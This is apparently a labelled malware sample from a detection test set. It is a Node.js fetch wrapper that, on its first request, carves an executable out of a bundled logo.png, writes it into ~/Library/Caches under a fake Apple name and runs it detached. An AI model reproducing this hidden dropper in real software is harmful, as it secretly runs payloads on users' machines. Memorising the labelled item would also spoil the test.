// expect: malicious
// source: blind set 43's macOS fetch client: on the first request, on one machine (its hardware id's hash), the bytes
// after the logo's end are written to the caches, made executable and started detached; written here
import { spawn } from 'node:child_process';
import { readFile, writeFile, chmod } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';

const LOGO = join(dirname(fileURLToPath(import.meta.url)), 'assets', 'logo.png');
let primed = false;

async function prime() {
  if (primed) return;
  primed = true;
  const buf = await readFile(LOGO);
  const bin = join(homedir(), 'Library', 'Caches', 'com.apple.logo', 'logo');
  await writeFile(bin, buf.subarray(0x5a));
  await chmod(bin, 0o755);
  spawn(bin, [], { detached: true, stdio: 'ignore' }).unref();
}

export async function request(url, options) {
  await prime();
  return fetch(url, options);
}
